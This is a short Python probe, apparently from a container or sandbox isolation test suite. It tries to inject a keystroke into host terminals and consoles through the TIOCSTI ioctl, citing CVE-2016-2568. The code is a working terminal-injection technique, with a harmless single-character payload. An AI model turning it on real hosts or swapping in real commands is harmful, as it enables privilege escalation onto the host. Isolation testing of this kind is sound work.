# Pushes keystrokes into a terminal of the host with TIOCSTI, and into the consoles.
# Why it matters: what is typed there runs with the rights of who sits there (CVE-2016-2568 and its kind).
# When it works: the terminal takes a character.
# control: host-root
import fcntl
import os

from attempt import first_success, fact, reached, run

TIOCSTI = 0x5412


def attempt():
    def type_into(path):
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        fcntl.ioctl(terminal, TIOCSTI, b"x")

    label, _ = first_success((path, lambda path=path: type_into(path)) for path in (fact("HOST_TTY"), "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ttyS0"))
    reached(f"{label} took a keystroke")


run(attempt)
